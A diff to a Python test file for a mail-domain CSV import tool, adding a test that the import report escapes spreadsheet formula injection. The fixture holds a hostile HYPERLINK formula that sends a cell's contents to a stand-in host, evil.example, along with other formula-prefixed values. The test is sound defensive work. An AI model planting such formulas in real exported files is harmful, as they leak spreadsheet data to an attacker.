@@ -17,6 +17,7 @@ from mailgothai.core.csvimport import detect_format, read_records
 from mailgothai.errors import InvalidInput
 from mailgothai.services.imports import ImportService
 from mailgothai.services.registry import Services
+from tests.conftest import Cli
 
 pytestmark = pytest.mark.sql
 
@@ -135,3 +136,22 @@ def test_an_idn_domain_file_run_twice_is_unchanged_the_second_time(services: Ser
     third = importer(services).import_domains(changed)
     assert (third.updated, third.bad) == (1, ())
     assert services.domains.get(f"{t}.xn--12cm3bkbt2db0b7a7a2a.xn--o3cw4h").limits.max_accounts == 20
+
+
+def test_the_import_domains_report_guards_every_cell(cli: Cli, tmp_path: Path) -> None:
+    """The report wrote the domain cell as it came: a formula when the report is opened in Excel."""
+    t = tag()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    path = tmp_path / "domains.csv"
+    with open(path, "w", newline="", encoding="utf-8") as out:
+        csv.writer(out).writerows([("domain", "description"), (f"ok.{t}.go.th", "fine"), (formula, "x"),
+                                   ("@SUM(1+1)", "y"), (f"q.{t}.go.th", "-1+2")])
+    report = tmp_path / "report.csv"
+    done = cli("import-domains", str(path), "--report", str(report))
+    assert done.returncode == 3, done.stdout + done.stderr
+    with open(report, newline="", encoding="utf-8-sig") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["row", "domain", "column", "reason"]
+    cells = {row[0]: row[1] for row in rows[1:]}
+    assert cells["2"] == "'" + formula and cells["3"] == "'@SUM(1+1)"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
